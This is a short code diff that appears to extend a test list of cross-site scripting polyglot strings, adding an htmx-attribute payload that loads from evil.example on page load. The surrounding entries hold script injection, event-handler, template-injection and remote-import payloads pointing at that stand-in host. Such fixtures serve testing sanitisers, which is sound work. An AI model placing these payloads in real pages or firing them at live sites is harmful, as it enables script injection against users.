@@ -22,6 +22,7 @@ POLYGLOTS = (
     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/--!><sVg/oNloAd=alert(1)//>",
     "\"'><img src=x onerror=alert(2)><script>alert(3)</script>{{7*7}}${7*7}\u202egnp.exe",
     "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe><base href=//evil.example/>]]><!--",
+    "\"><i hx-get='//evil.example' hx-trigger=load data-hx-on:load='alert(6)' hx-vals='js:{a:alert(7)}'></i>",
     "javascript:alert(5)//<style>@import '//evil.example/x.css'</style>\x00\x1b[31m\r\n",
 )
 
